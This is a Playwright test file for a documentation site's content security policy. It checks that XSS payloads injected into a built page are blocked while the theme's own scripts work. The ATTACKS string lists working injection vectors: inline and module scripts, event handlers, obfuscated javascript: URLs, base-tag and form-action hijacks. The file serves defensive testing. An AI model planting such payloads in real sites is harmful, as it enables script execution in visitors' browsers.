"""The content security policy at work: the site's own scripts live with it, an attack on a page does not."""

from __future__ import annotations

import re
import shutil
from collections.abc import Iterator
from functools import partial
from http.server import BaseHTTPRequestHandler
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Route, expect

from tests.answering import answering
from tests.browser.fixtures import BuildSite, NewPage
from tests.browser.serving import serve
from tests.browser.until import until

ROOT = Path(__file__).resolve().parents[2]
SMALL = ROOT / "tests/fixtures/small"

#: Collects what the policy blocked: which rule, and what.
WATCH = """
window.blocked = []
addEventListener("securitypolicyviolation", (event) => {
  blocked.push(`${event.effectiveDirective} ${event.blockedURI}`)
})
"""
#: Collects the colours that the page has whenever the browser is about to draw it.
FRAMES = """
window.drawn = []
const look = () => {
  if (document.body) drawn.push(document.body.dataset.mdColorScheme)
  requestAnimationFrame(look)
}
requestAnimationFrame(look)
"""

#: What somebody who has got hold of the files may put into a page. OUT is another site, RAN(...) notes that
#: something ran.
ATTACKS = """
<script>RAN("script")</script>
<script type="module">RAN("module")</script>
<script src="data:text/javascript,RAN('data')"></script>
<script src="OUT/x.js"></script>
<script type="module" src="OUT/module.js"></script>
<img src="OUT/x.png" alt="">
<img srcset="OUT/y.png 2x" src="none.png" alt="" onerror="RAN('onerror')">
<svg onload="RAN('onload')"><image href="OUT/z.png"/><use href="OUT/x.svg#x"/></svg>
<svg><a href="javascript:RAN('svg')"><text y="20">svg</text></a></svg>
<svg><a><animate attributeName="href" values="javascript:RAN('animate')"/><text y="20">x</text></a></svg>
<details open ontoggle="RAN('ontoggle')"><summary>x</summary></details>
<p onmouseover="RAN('onmouseover')">hover</p>
<a onclick="RAN('onclick')">click</a>
<a href="javascript:RAN('javascript')">javascript</a>
<a href="&#106;ava&Tab;script:RAN('spelled')">spelled</a>
<a href="none" target="four" ping="OUT/ping">ping</a>
<p style="background: url(OUT/style.png)" id="styled">style</p>
<style>@import "OUT/import.css"; #styled { color: rgb(1, 2, 3) }</style>
<style>#attack { background: url(OUT/css.png) }</style>
<link rel="stylesheet" href="OUT/x.css">
<link rel="preload" as="script" href="OUT/preload.js">
<link rel="prefetch" href="OUT/prefetch">
<iframe src="OUT/frame"></iframe>
<iframe srcdoc="<script>parent.RAN('srcdoc')</script>"></iframe>
<iframe src="javascript:parent.RAN('frame')"></iframe>
<object data="OUT/object"></object>
<embed src="OUT/embed">
<video src="OUT/video" poster="OUT/poster.png"></video>
<audio src="OUT/audio"></audio>
<form action="OUT/form" target="one"><button>send</button></form>
<form target="two"><button formaction="OUT/button">send</button></form>
<form action="javascript:parent.RAN('form')" target="three"><button>send</button></form>
<iframe name="one"></iframe><iframe name="two"></iframe>
<iframe name="three"></iframe><iframe name="four"></iframe>
<base href="OUT/base/"><img src="relative.png" alt="">
"""
#: Some of them run something, and ask another site for something, in a browser without the policy.
RUNS = {
    "script",
    "module",
    "data",
    "outside",
    "onerror",
    "onload",
    "onmouseover",
    "onclick",
    "javascript",
    "spelled",
}
ASKS = {
    "/x.js",
    "/x.png",
    "/z.png",
    "/import.css",
    "/css.png",
    "/frame",
    "/form?",
    "/button?",
    "/base/relative.png",
}

#: Does with everything in the attack what a reader can do.
TOUCH = """() => {
  for (const one of document.querySelectorAll("#attack *")) {
    one.dispatchEvent(new MouseEvent("mouseover", { bubbles: true }))
  }
  for (const one of document.querySelectorAll("#attack :is(a, button)")) {
    one.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }))
  }
}"""


class _Outside(BaseHTTPRequestHandler):
    """Another site, which notes what it is asked for."""

    def __init__(self, *given: object, asked: list[str]) -> None:
        self._asked = asked
        super().__init__(*given)  # type: ignore[arg-type]  # the server's own three

    def do_GET(self) -> None:
        """Answers with a script, whatever was asked for."""
        self._asked.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()
        self.wfile.write(b"window.RAN?.('outside')")

    do_POST = do_GET  # noqa: N815  the base class's own way of naming

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002  the name that the base class gives
        """Says nothing."""


@pytest.fixture
def asked() -> list[str]:
    """What another site was asked for."""
    return []


@pytest.fixture
def attacked(outage_site: Path, tmp_path: Path, asked: list[str]) -> Iterator[str]:
    """The address of a site in which somebody has put all of it into a page, after it was built."""
    site = Path(shutil.copytree(outage_site, tmp_path / "site"))
    with answering(partial(_Outside, asked=asked)) as outside, serve(site, "/") as address:
        page = site / "risks" / "index.html"
        html = page.read_text(encoding="utf-8")
        attack = ATTACKS.replace("OUT", outside)
        page.write_text(html.replace("</article>", f'<div id="attack">{attack}</div></article>'), "utf-8")
        yield f"{address}risks/"


def touched(context: BrowserContext, address: str, ran: list[str]) -> Page:
    """The attacked page, once a reader has hovered over all of it and clicked on all of it."""

    def note(name: str) -> None:
        ran.append(name)

    context.expose_function("RAN", note)
    context.add_init_script(WATCH)
    page = context.new_page()
    page.goto(address)
    page.wait_for_load_state("networkidle")
    page.evaluate(TOUCH)
    page.wait_for_timeout(500)
    return page


def test_an_attack_does_nothing(chromium: Browser, attacked: str, asked: list[str]) -> None:
    """Nothing of it runs, nothing is asked of another site, no form is sent, no style is taken."""
    ran: list[str] = []
    with chromium.new_context() as context:
        page = touched(context, attacked, ran)
        rules = {rule.split()[0] for rule in page.evaluate("blocked")}

        assert [] == ran
        assert [] == asked
        assert [attacked] == [page.url for page in context.pages]
        assert "rgb(1, 2, 3)" != page.evaluate("getComputedStyle(document.querySelector('#styled')).color")
        assert {"script-src-elem", "script-src-attr", "style-src-attr", "img-src", "form-action"} <= rules


def test_the_attack_would_work_without_the_policy(chromium: Browser, attacked: str, asked: list[str]) -> None:
    """So that the test above proves something."""
    ran: list[str] = []
    with chromium.new_context(bypass_csp=True) as context:
        touched(context, attacked, ran)

    assert set() == RUNS - set(ran)
    assert set() == ASKS - set(asked)


def test_no_page_needs_what_its_policy_forbids(new_page: NewPage, outage: str, kinds: list[str]) -> None:
    """With all scripts at work, light and dark."""
    page = new_page(missing=True, color_scheme="light")
    page.add_init_script(WATCH)
    found = {}
    for path in kinds:
        page.goto(outage + path)
        page.emulate_media(color_scheme="light")
        expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "default")
        page.emulate_media(color_scheme="dark")
        expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "slate")
        found[path] = page.evaluate("blocked")

    assert len(kinds) > 20
    assert {} == {path: blocked for path, blocked in found.items() if blocked}


def drawn(page: Page, address: str) -> set[str]:
    """The colours in which a page is seen until the theme's own script comes, which takes its time."""
    held: list[Route] = []

    def hold(route: Route) -> None:
        held.append(route)

    page.route("**/bundle.*.js", hold)
    page.add_init_script(FRAMES)
    page.goto(address, wait_until="commit")
    until(page, "window.drawn?.length > 5")
    colours: list[str] = page.evaluate("drawn")
    for route in held:
        route.continue_()
    page.unroute("**/bundle.*.js")
    return set(colours)


@pytest.mark.parametrize(("scheme", "expected"), [("light", "default"), ("dark", "slate")])
def test_no_page_dazzles_before_it_is_dark(
    new_page: NewPage, outage: str, scheme: str, expected: str
) -> None:
    """Its colours are the system's before anything is seen."""
    assert {expected} == drawn(new_page(color_scheme=scheme), outage)


def test_colours_that_a_reader_chose_are_there_at_once(new_page: NewPage, outage: str) -> None:
    """On the next page as well, whatever the system has."""
    page = new_page(color_scheme="light")
    page.goto(outage)
    page.get_by_title("Switch to light mode").click()
    page.get_by_title("Switch to dark mode").click()
    expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "slate")

    assert {"slate"} == drawn(page, f"{outage}plan/")


def test_a_search_that_finds_nothing_sends_nothing(new_page: NewPage, outage: str) -> None:
    """Enter in the search's field is no form sent: the page stays, and nothing has to be blocked."""
    page = new_page()
    page.add_init_script(WATCH)
    page.goto(outage)
    page.get_by_role("textbox", name="Search").fill("zzyzx")
    expect(page.locator(".md-search-result__meta")).to_contain_text("No matching documents")
    page.get_by_role("textbox", name="Search").press("Enter")
    page.wait_for_timeout(300)

    assert outage == page.url.partition("?")[0]
    assert [] == page.evaluate("blocked")


SETTINGS = """
theme:
  features: [content.code.copy, content.tabs.link, search.highlight, navigation.indexes]
markdown_extensions:
  - attr_list
  - tables: {use_align_attribute: true}
  - toc: {permalink: true}
  - pymdownx.superfences
  - pymdownx.tabbed: {alternate_style: true}
"""
TABS = """# %s

=== "Linux"

    One

=== "Windows"

    Two

```
systemctl restart gateway
```

| left | right |
|:-----|------:|
| a    | b     |
"""


@pytest.fixture(scope="module")
def with_tabs(build_site: BuildSite) -> Iterator[str]:
    """The address of a playbook whose own settings ask for tabs and for a button to copy code."""
    edits = {
        "mkdocs.yml": lambda _: SETTINGS,
        "content/one.md": lambda _: TABS % "One",
        "content/two.md": lambda _: TABS % "Two",
    }
    with serve(build_site(SMALL, edits), "/") as address:
        yield address


def test_tabs_open_by_their_address_and_stay_chosen(new_page: NewPage, with_tabs: str) -> None:
    """What the theme's own scripts in a page did is done by files."""
    page = new_page()
    page.goto(f"{with_tabs}one/")
    blocks = page.locator(".tabbed-block")
    expect(blocks.nth(0)).to_be_visible()
    page.get_by_text("Windows").click()
    expect(blocks.nth(1)).to_be_visible()
    page.goto(f"{with_tabs}two/")
    expect(blocks.nth(1)).to_be_visible()

    page.goto(f"{with_tabs}two/#__tabbed_1_1")
    page.reload()
    expect(blocks.nth(0)).to_be_visible()


def test_code_is_copied_and_columns_keep_their_side(new_page: NewPage, with_tabs: str) -> None:
    """Neither needs a script or a style that stands in the page."""
    page = new_page(permissions=["clipboard-read", "clipboard-write"])
    page.goto(f"{with_tabs}one/")
    page.locator("pre").hover()
    page.get_by_title("Copy to clipboard").click()

    expect(page.locator("td").last).to_have_css("text-align", re.compile("right$"))
    assert "systemctl restart gateway" == page.evaluate("navigator.clipboard.readText()").strip()
